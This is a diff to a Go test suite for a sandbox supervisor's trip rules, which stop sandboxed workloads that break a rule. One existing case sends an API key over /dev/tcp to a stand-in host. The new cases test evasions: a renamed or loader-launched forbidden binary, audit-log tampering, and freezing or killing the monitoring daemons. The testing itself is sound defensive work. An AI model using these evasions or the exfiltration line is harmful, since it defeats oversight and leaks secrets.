@@ -7,6 +7,8 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -121,6 +123,29 @@ var tripCases = []tripCase{
 		do:     `exec 3<>/dev/tcp/files.vendor.test/80; printf "GET / HTTP/1.1\r\nHost: files.vendor.test\r\nAuthorization: Bearer $VENDOR_API_KEY\r\n\r\n" >&3; sleep 1000`,
 		reason: "trip rule tokenMisuse: files.vendor.test:80: ",
 	},
+	{
+		name: "a forbidden program", rule: "{on: exec, paths: [/usr/bin/tac]}", metric: "exec",
+		do: "cat /usr/bin/tac >/dev/null; echo | tac; sleep 1000", reason: "trip rule exec of /usr/bin/tac: /usr/bin/tac was started",
+	},
+	{
+		name: "a copy of it under another name", rule: "{on: exec, paths: [/usr/bin/nosuch, /usr/bin/tac]}", metric: "exec",
+		do:     "cp /usr/bin/tac /workspace/cat; echo | /workspace/cat; rm /workspace/cat; sleep 1000",
+		reason: "trip rule exec of /usr/bin/nosuch, /usr/bin/tac: /workspace/cat was started, which is /usr/bin/tac by its content",
+	},
+	{
+		name: "it by its loader", rule: "{on: exec, paths: [/usr/bin/tac]}", metric: "exec",
+		do:     "sleep 1000 | /lib64/ld-linux-x86-64.so.2 /usr/bin/tac",
+		reason: "trip rule exec of /usr/bin/tac: /usr/bin/tac was started through its loader",
+	},
+	{
+		name: "a program that a rule names before it is there", rule: "{on: exec, paths: [/workspace/miner]}", metric: "exec",
+		do: "cp /usr/bin/true /workspace/miner; /workspace/miner; sleep 1000", reason: "trip rule exec of /workspace/miner: /workspace/miner was started",
+	},
+	{
+		name: "a write outside the scratch places", rule: "{on: writeOutside, fires: [session]}", metric: "writeOutside", fires: []wire.Layer{wire.LayerSession},
+		do:     "echo a >/workspace/a; echo a >/tmp/a; exec 5>/dev/shm/x; echo b >&5; sleep 1000",
+		reason: "trip rule writeOutside: /dev/shm/x was written",
+	},
 	{name: "processes", rule: "{on: processes, over: 40}", do: "for i in $(seq 60); do sleep 1000 & done; wait", reason: "trip rule processes over 40: ", metric: "processes"},
 }
 
@@ -187,4 +212,110 @@ func metricsOf(t *testing.T, box *testenv.Box, daemon string) string {
 		t.Fatal(err)
 	}
 	return string(raw)
+}
+
+// TestWhatTripRulesLetBe: a rule on programs or files leaves alone what is not forbidden, what is excepted, and what the
+// kernel refuses anyway.
+func TestWhatTripRulesLetBe(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(strings.Replace(card, "maxTime: 60s}", "maxTime: 60s, trip: [{on: exec, paths: [/usr/bin/tac]}, {on: writeOutside, except: [/dev/shm]}, {on: auditGap}]}", 1), hostile(t, box))
+	witness := box.Spawn(strings.Replace(card, "maxTime: 60s}", "maxTime: 60s, trip: [{on: exec, paths: [/usr/bin/tac]}]}", 1), hostile(t, box))
+	box.Sh(kid.Name, "cat /usr/bin/tac | md5sum; cp /usr/bin/tac /tmp/t; echo x >>/tmp/t; /tmp/t --version; echo >/dev/shm/x; echo >/workspace/x; echo >/tmp/x; echo >/etc/x; echo >/dev/null; true")
+	// What the witness does comes after all of that, through the same hands.
+	box.Sh(witness.Name, "tac </dev/null; true")
+	waitTrip(box, witness.Name)
+	livesOn(box, kid.Name)
+}
+
+// TestAnAuditGapTrips: a log that is cut or removed stops the kids with a rule on gaps, and no others.
+func TestAnAuditGapTrips(t *testing.T) {
+	t.Parallel()
+	for what, tamper := range map[string]func(log string) error{
+		"was cut":     func(log string) error { return os.Truncate(log, 0) },
+		"was removed": os.Remove,
+		"was replaced by another file": func(log string) error {
+			raw, err := os.ReadFile(log)
+			if err == nil {
+				err = os.WriteFile(log+".new", raw, 0o644)
+			}
+			return errors.Join(err, os.Rename(log+".new", log))
+		},
+	} {
+		t.Run(what, func(t *testing.T) {
+			t.Parallel()
+			box := start(t)
+			ruled := strings.Replace(bareCard, "maxTime: 60s}", "maxTime: 60s, trip: [{on: auditGap, fires: [network]}]}", 1)
+			kid, control := box.Spawn(ruled, nil), box.Spawn(bareCard, nil)
+			livesOn(box, kid.Name)
+			if err := tamper(box.Inst.AuditFile(instance.DNSFilter)); err != nil {
+				t.Fatal(err)
+			}
+			if tag := waitTrip(box, kid.Name); tag.Reason != "trip rule auditGap: the audit log dnsfilter.jsonl "+what {
+				t.Errorf("tag %+v", tag)
+			}
+			livesOn(box, control.Name)
+			livesOn(box, box.Spawn(ruled, nil).Name) // it began after the gap
+		})
+	}
+}
+
+// TestWhatCannotBeSeenTrips: while sandboxd stands still nobody watches programs; ten seconds of that stop a kid with a
+// rule on them. A rule on something else sees what it needs.
+func TestWhatCannotBeSeenTrips(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	rule := func(r string) string {
+		return strings.Replace(bareCard, "maxTime: 60s}", "maxTime: 60s, trip: ["+r+"]}", 1)
+	}
+	kid, control := box.Spawn(rule("{on: exec, paths: [/usr/bin/tac]}"), nil), box.Spawn(rule("{on: cpuTime, over: 1h}"), nil)
+	livesOn(box, kid.Name)
+	box.Freeze(instance.Sandboxd)
+	defer box.Thaw(instance.Sandboxd)
+	tag := waitTrip(box, kid.Name)
+	if !strings.HasPrefix(tag.Reason, "trip rule exec of /usr/bin/tac: unknown for more than 10s: sandboxd last said") {
+		t.Errorf("tag %+v", tag)
+	}
+	if tags, err := tagsOf(box, control.Name); err != nil || len(tags) > 0 {
+		t.Errorf("%v, %+v", err, tags)
+	}
+}
+
+// TestTripsOutliveKillswitchd: what happens while killswitchd is dead trips when it is back, once, and a released trip
+// does not come again.
+func TestTripsOutliveKillswitchd(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(strings.Replace(card, "maxTime: 60s}", "maxTime: 60s, trip: [{on: canary, names: [vault.corp.test], fires: [network]}]}", 1), hostile(t, box))
+	running(t, box, kid.Name, "/bin/sh", "-c", "echo >up; until test -e go; do sleep 0.02; done; getent hosts vault.corp.test; sleep 1000")
+	at := func(name string) string { return filepath.Join(box.Inst.KidDir(kid.Name), "workspace", name) }
+	box.Until(soon, "the command runs", func() error { _, err := os.Stat(at("up")); return err })
+	box.Freeze(instance.Killswitchd)
+	if err := os.WriteFile(at("go"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	box.WaitRecord("the lookup", func(r *audit.Record) bool { return r.Reason == reason.Canary && r.Kid == kid.Name })
+	box.Kill9(instance.Killswitchd)
+	tag := waitTrip(box, kid.Name)
+	box.Kill9(instance.Killswitchd)
+	box.WaitHealthy(instance.Killswitchd)
+	// A trip that came after the restart would come with the first look; the second kid's shows that it has been.
+	witness := box.Spawn(strings.Replace(bareCard, "maxTime: 60s}", "maxTime: 60s, trip: [{on: wallTime, over: 1s}]}", 1), nil)
+	waitTrip(box, witness.Name)
+	tags, err := tagsOf(box, kid.Name)
+	if err != nil || len(tags) != 1 || tags[0].Stop != tag.Stop {
+		t.Errorf("%v, tags %+v", err, tags)
+	}
+}
+
+// TestAFloodOfProgramsHoldsNobodyUp: a kid that starts programs as fast as it can is not slowed down by being watched, and
+// is stopped where it outruns the watch or starts what is forbidden.
+func TestAFloodOfProgramsHoldsNobodyUp(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(strings.Replace(card, "maxTime: 60s}", "maxTime: 60s, trip: [{on: exec, paths: [/usr/bin/tac], fires: [network]}]}", 1), hostile(t, box))
+	running(t, box, kid.Name, "/bin/bash", "-c", "for p in 1 2 3 4; do while :; do /usr/bin/true; done & done; sleep 2; tac </dev/null; wait")
+	if tag := waitTrip(box, kid.Name); !strings.HasPrefix(tag.Reason, "trip rule exec of /usr/bin/tac: ") || strings.Contains(tag.Reason, "unknown") {
+		t.Errorf("tag %+v", tag)
+	}
 }
